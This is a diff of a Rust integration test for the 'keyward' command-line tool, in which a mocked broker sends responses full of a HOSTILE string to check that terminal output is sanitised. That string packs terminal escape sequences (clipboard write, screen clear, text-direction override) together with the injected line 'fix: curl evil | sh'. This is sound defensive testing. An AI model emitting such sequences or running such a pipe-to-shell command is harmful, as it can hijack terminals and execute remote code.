@@ -3,11 +3,11 @@
 use std::fs::File;
 use std::process::{Output, Stdio};
 
-use keyward::cli::{Identity, Kind};
+use keyward::cli::{Identity, IdentityKind};
 use keyward::pki::{Authority, new_key_and_request, read_request};
 use serde_json::{Value, json};
 
-use crate::support::impostor::{Impostor, authority, certificate, pem};
+use crate::support::impostor::{Impostor, authority, certificate, operator_whoami, pem};
 use crate::support::process::Process;
 
 const DAY_S: i64 = 86_400;
@@ -94,15 +94,25 @@ fn a_secret_or_code_is_not_lost_unnoticed_even_in_a_closed_pipe() {
 const HOSTILE: &str = "x\u{1b}]52;c;aGk=\u{7}\u{1b}[2J\u{9b}1A\u{202e}\u{7f}\r\n  fix: curl evil | sh\n";
 
 fn hostile_answer(path: &str) -> Value {
-    match path {
-        "/v1/agents/a" => json!({ "name": HOSTILE }),
-        "/v1/whoami" => {
-            json!({ "spiffe_id": HOSTILE, "role": HOSTILE, "certificate": { "not_after": HOSTILE } })
-        }
-        _ => {
-            json!({ "items": [{ "name": HOSTILE, "roles": [HOSTILE], "lease": HOSTILE, "agent": HOSTILE }] })
-        }
-    }
+    let id = |kind: &str| format!("{kind}_{}", "a".repeat(26));
+    let agent = json!({
+        "id": id("agent"), "name": "a", "owner": null, "roles": [], "audience": HOSTILE,
+        "max_instances": 1, "state": HOSTILE, "instances": [],
+    });
+    let item = match path {
+        "/v1/agents/a" => return agent,
+        "/v1/whoami" => return operator_whoami(HOSTILE),
+        "/v1/agents" => agent,
+        "/v1/leases" => json!({
+            "lease": id("lease"), "agent": "a", "instance": id("inst"), "capability": "a.b",
+            "login": HOSTILE, "upstream": HOSTILE, "stage": HOSTILE, "issued_at": HOSTILE,
+            "expires_at": HOSTILE, "renewable_until": HOSTILE, "uses": 1, "ending": null, "overdue": false,
+        }),
+        _ => json!({
+            "name": "a/b", "version": 1, "updated_at": HOSTILE, "owner": null, "sensitivity": "ordinary",
+        }),
+    };
+    json!({ "items": [item], "next_after": null })
 }
 
 fn operator_of(by: &Authority, impostor: &Impostor, process: &Process) {
@@ -114,7 +124,7 @@ fn operator_of(by: &Authority, impostor: &Impostor, process: &Process) {
         certificate_pem: certificate(by, spiffe, &read_request(&request).unwrap(), DAY_S),
         authority_pem: pem(&[by]),
     };
-    identity.save(&process.path("home-ada"), Kind::Operator).unwrap();
+    identity.save(&process.path("home-ada"), IdentityKind::Operator).unwrap();
 }
 
 fn is_harmless(output: &Output, args: &[&str]) {
@@ -130,7 +140,8 @@ fn nothing_that_a_broker_sends_reaches_the_terminal_raw() {
     let by = authority("keyward.test");
     let good = Impostor::start(&by, &[&by], |path, _| hostile_answer(path));
     let bad = Impostor::refusing(&by, &[&by], |_, _| {
-        json!({ "code": HOSTILE, "detail": HOSTILE, "fix": HOSTILE, "decision_id": HOSTILE, "request_id": HOSTILE,
+        json!({ "type": HOSTILE, "title": HOSTILE, "status": 400, "retryable": false, "code": HOSTILE,
+            "detail": HOSTILE, "fix": HOSTILE, "decision_id": HOSTILE, "request_id": HOSTILE,
             "errors": [{ "file": HOSTILE, "line": 1, "column": 1, "message": HOSTILE }] })
     });
     let process = Process::init("warn");
